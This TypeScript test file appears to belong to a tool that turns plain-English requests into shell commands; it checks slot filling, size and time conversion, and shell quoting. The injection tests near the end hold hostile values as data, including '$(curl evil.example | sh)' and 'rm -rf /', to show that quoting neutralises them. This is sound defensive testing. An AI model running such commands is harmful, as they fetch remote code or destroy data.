import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { KnowledgeEntry } from '../../server/src/planner/corpus';
import { requestShape } from '../../server/src/planner/planCache';
import { readRequest, type WorkspaceNames } from '../../server/src/planner/requestFacts';
import { fillSlots } from '../../server/src/planner/slotFill';
import { fillTemplate, shellQuote } from '../../server/src/planner/templateFill';

const ws: WorkspaceNames = {
  files: new Set(['README.md', 'server/src/paladin.ts', 'data/sales.csv']),
  dirs: new Set(['server', 'server/src', 'data', 'logs']),
  byBase: new Map([['paladin.ts', 'server/src/paladin.ts'], ['sales.csv', 'data/sales.csv'], ['src', 'server/src']]),
};

function entry(template: string, slots: KnowledgeEntry['slots']): KnowledgeEntry {
  return { id: 't.t', intents: ['a b c', 'd e f', 'g h i'], template, slots, utilities: [template.split(' ')[0]], explanation: 'x', category: 'files' };
}

function plan(e: KnowledgeEntry, request: string): string {
  return fillTemplate(e, fillSlots(e, readRequest(request, ws)).values).command;
}

const biggest = entry("find {path} -type f -printf '%s\\t%p\\n' | sort -rn | head -n {count}", { path: { type: 'path', default: '.' }, count: { type: 'count', default: 10 } });

test('paths that exist in the workspace and counts next to count words', () => {
  assert.equal(plan(biggest, 'list the 5 biggest files under server'), "find server -type f -printf '%s\\t%p\\n' | sort -rn | head -n 5");
  assert.equal(plan(biggest, 'top three largest files in the logs folder'), "find logs -type f -printf '%s\\t%p\\n' | sort -rn | head -n 3");
  assert.equal(plan(biggest, 'biggest files'), "find . -type f -printf '%s\\t%p\\n' | sort -rn | head -n 10", 'defaults when the request says nothing');
  assert.equal(plan(entry('wc -l {file}', { file: { type: 'file' } }), 'count lines of paladin.ts'), 'wc -l server/src/paladin.ts', 'a base name resolves to its path');
});

test('file kinds in words become globs and extensions', () => {
  const e = entry('find {path} -name {glob}', { path: { type: 'path', default: '.' }, glob: { type: 'glob' } });
  assert.equal(plan(e, 'find all python files'), "find . -name '*.py'");
  assert.equal(plan(e, 'find markdown files under server'), "find server -name '*.md'");
  assert.equal(plan(e, 'files ending with .bak'), "find . -name '*.bak'");
  assert.equal(plan(e, 'find *.log files'), "find . -name '*.log'");
  assert.equal(plan(entry('ls {glob}', { glob: { type: 'glob' } }), 'list the csv files'), 'ls *.csv', 'a glob not behind a pattern option is left for the shell to expand');
  assert.equal(plan(entry('grep -r --include=*.{ext} x .', { ext: { type: 'ext' } }), 'search typescript files'), 'grep -r --include=*.ts x .');
});

test('sizes and durations with their comparison', () => {
  const size = entry('find . -size {size}', { size: { type: 'size', format: 'find' } });
  assert.equal(plan(size, 'files bigger than 1 megabyte'), 'find . -size +1M');
  assert.equal(plan(size, 'files smaller than 10 kb'), 'find . -size -10240c', 'find rounds up to whole units: -10k would leave out files of 9.5 kB');
  assert.equal(plan(size, 'files over 2 GB'), 'find . -size +2G');
  assert.equal(plan(size, 'larger than 1.5 MB'), 'find . -size +1536k', 'fractions go down a unit');
  assert.equal(plan(entry('du --threshold={size} .', { size: { type: 'size', format: 'human' } }), 'folders above 500 megabytes'), 'du --threshold=500M .');
  const age = entry('find . -mtime {age}', { age: { type: 'duration', unit: 'days' } });
  assert.equal(plan(age, 'files older than a week'), 'find . -mtime +7');
  assert.equal(plan(age, 'files modified in the last 2 days'), 'find . -mtime -2');
  assert.equal(plan(age, 'older than 3 months'), 'find . -mtime +90');
  assert.equal(plan(entry('find . -mmin {age}', { age: { type: 'duration', unit: 'minutes' } }), 'changed within the last 30 minutes'), 'find . -mmin -30');
  assert.equal(plan(entry('sleep {s}', { s: { type: 'duration', unit: 'seconds' } }), 'wait 2 minutes'), 'sleep 120');
});

test('lines, columns, quoted strings and patterns', () => {
  assert.equal(plan(entry('tail -n {count} {file}', { count: { type: 'count', default: 10 }, file: { type: 'file' } }), 'show the last 2 lines of README.md'), 'tail -n 2 README.md');
  assert.equal(plan(entry("awk '{print ${column}}' {file}", { column: { type: 'column' }, file: { type: 'file' } }), 'print the second column of sales.csv'), "awk '{print $2}' data/sales.csv");
  assert.equal(plan(entry("cut -f {column} {file}", { column: { type: 'column' }, file: { type: 'file' } }), 'field 3 of README.md'), 'cut -f 3 README.md');
  const grep = entry('grep -rn {pattern} {path}', { pattern: { type: 'pattern' }, path: { type: 'path', default: '.' } });
  assert.equal(plan(grep, 'search for "TODO: fix" in server'), "grep -rn 'TODO: fix' server");
  assert.equal(plan(grep, 'find lines containing error under logs'), 'grep -rn error logs');
  const sed = entry("sed 's|{old}|{new}|g' {file}", { old: { type: 'pattern', cues: ['replace'] }, new: { type: 'string', cues: ['with'] }, file: { type: 'file' } });
  assert.equal(plan(sed, 'replace foo with bar in README.md'), "sed 's|foo|bar|g' README.md");
  assert.equal(plan(sed, `replace "it's" with "it is" in README.md`), "sed 's|it'\\''s|it is|g' README.md", 'a quote inside a single-quoted program cannot end it');
});

test('other slot types: ports, users, urls, modes, signals, pids, archives, names, hosts', () => {
  assert.equal(plan(entry('ss -ltnp sport = :{port}', { port: { type: 'port' } }), 'who is listening on port 8080'), 'ss -ltnp sport = :8080');
  assert.equal(plan(entry('ps -u {user}', { user: { type: 'user' } }), 'processes owned by alice'), 'ps -u alice');
  assert.equal(plan(entry('curl -fsSLO {url}', { url: { type: 'url' } }), 'download https://example.com/a.tar.gz please'), 'curl -fsSLO https://example.com/a.tar.gz');
  assert.equal(plan(entry('chmod {mode} {file}', { mode: { type: 'mode' }, file: { type: 'file' } }), 'make README.md executable'), 'chmod +x README.md');
  assert.equal(plan(entry('chmod {mode} {file}', { mode: { type: 'mode' }, file: { type: 'file' } }), 'chmod 755 on README.md'), 'chmod 755 README.md');
  assert.equal(plan(entry('kill -{signal} {pid}', { signal: { type: 'signal', default: 'TERM' }, pid: { type: 'pid' } }), 'kill process 4242 forcefully'), 'kill -KILL 4242');
  assert.equal(plan(entry('tar -czf {archive} {path}', { archive: { type: 'archive' }, path: { type: 'path' } }), 'compress the logs folder into logs.tar.gz'), 'tar -czf logs.tar.gz logs');
  assert.equal(plan(entry('mkdir -p {name}', { name: { type: 'name' } }), 'create a folder called build-output'), 'mkdir -p build-output');
  assert.equal(plan(entry('ping -c 3 {host}', { host: { type: 'host' } }), 'is example.com up'), 'ping -c 3 example.com');
  assert.equal(plan(entry('git checkout {branch}', { branch: { type: 'branch' } }), 'switch to branch feature/login'), 'git checkout feature/login');
});

test('a required slot the request does not give is shown, not invented', () => {
  const e = entry('grep -rn {pattern} {path}', { pattern: { type: 'pattern' }, path: { type: 'path', default: '.' } });
  const values = fillSlots(e, readRequest('search the code', ws));
  assert.deepEqual(values.missing, ['pattern']);
  const filled = fillTemplate(e, values.values);
  assert.equal(filled.command, "grep -rn '<pattern>' .");
  assert.deepEqual(filled.missing, ['pattern']);
});

test('an optional slot left empty disappears without leaving quotes or double spaces', () => {
  const e = entry("ls -la {path} | awk '{print  $1}'", { path: { type: 'path', default: '' } });
  assert.equal(fillTemplate(e, {}).command, "ls -la | awk '{print  $1}'");
});

test('shell quoting: harmless words stay bare, everything else is single-quoted', () => {
  assert.equal(shellQuote('src/main.py'), 'src/main.py');
  assert.equal(shellQuote('+1M'), '+1M');
  assert.equal(shellQuote('a b'), "'a b'");
  assert.equal(shellQuote('$(rm -rf /)'), "'$(rm -rf /)'");
  assert.equal(shellQuote("it's"), "'it'\\''s'");
  assert.equal(shellQuote('x; rm -rf ~'), "'x; rm -rf ~'");
  assert.equal(shellQuote('~/notes'), '~/notes');
  assert.equal(shellQuote('~/my notes'), "~/'my notes'");
  assert.equal(shellQuote(''), "''");
});

test('a value can never inject a command, whatever the request says', () => {
  const e = entry('grep -rn {pattern} {path}', { pattern: { type: 'pattern' }, path: { type: 'path', default: '.' } });
  const cmd = plan(e, 'search for "$(curl evil.example | sh)" in server');
  assert.equal(cmd, "grep -rn '$(curl evil.example | sh)' server");
  const awk = entry("awk '/{pattern}/' {file}", { pattern: { type: 'pattern' }, file: { type: 'file' } });
  assert.equal(plan(awk, `lines matching "x' ; rm -rf / ; '" in README.md`), "awk '/x'\\'' ; rm -rf / ; '\\''/' README.md");
});

test('requests of the same shape share a shape key; different ones do not', () => {
  const a = requestShape(readRequest('list the 5 biggest files under server', ws));
  const b = requestShape(readRequest('list the 12 biggest files under logs', ws));
  const c = requestShape(readRequest('list the 5 newest files under server', ws));
  assert.equal(a, b);
  assert.notEqual(a, c);
  assert.match(a, /<n>.*<path>/);
});

test('a new name said with the folder it goes in is made inside that folder, whichever slot took the folder', () => {
  const parents = entry('mkdir -p {path}', { path: { type: 'path' } });
  const name = entry('mkdir -p {name}', { name: { type: 'name' } });
  const file = entry('touch {file}', { file: { type: 'file' } });
  const made = ['assets', 'x', 'fixtures.d', 'v2'];
  let n = 0;
  for (const kind of ['folder', 'directory', 'subfolder', 'subdirectory', 'dir']) {
    for (const said of ['called', 'named']) {
      for (const place of ['in', 'inside', 'under', 'within']) {
        for (const folder of ['data', 'logs', 'server/src']) {
          const newName = made[n++ % made.length];
          for (const request of [`create a ${kind} ${said} ${newName} ${place} ${folder}`, `make a ${kind} ${place} ${folder} ${said} ${newName}`, `make a new ${kind} ${said} ${newName} ${place} the ${folder} folder`]) {
            for (const e of [parents, name]) assert.equal(plan(e, request), `mkdir -p ${folder}/${newName}`, `${request} (${e.template})`);
          }
        }
      }
    }
  }
  assert.equal(plan(file, 'create the file todo.md inside logs'), 'touch logs/todo.md');
  assert.equal(plan(file, 'create an empty file called notes.txt in data'), 'touch data/notes.txt');
  const touchName = entry('touch {name}', { name: { type: 'name' } });
  for (const request of ['create an empty index.ts in logs', 'touch index.ts inside logs', 'make a blank index.ts under the logs folder']) assert.equal(plan(touchName, request), 'touch logs/index.ts', request);
  for (const folder of ['data', 'logs']) {
    for (const request of [`add a folder to ${folder} named cache`, `add a new subfolder called cache to the ${folder} folder`]) assert.equal(plan(parents, request), `mkdir -p ${folder}/cache`, request);
  }
  // A name the workspace has elsewhere, said after "called", still goes inside.
  assert.equal(plan(parents, 'create a folder called logs in data'), 'mkdir -p data/logs');
  // A folder named as the new thing itself, or a name already with its folder, stays as said.
  assert.equal(plan(parents, 'create the folder data/new'), 'mkdir -p data/new');
  assert.equal(plan(parents, 'create a folder called logs'), 'mkdir -p logs');
});
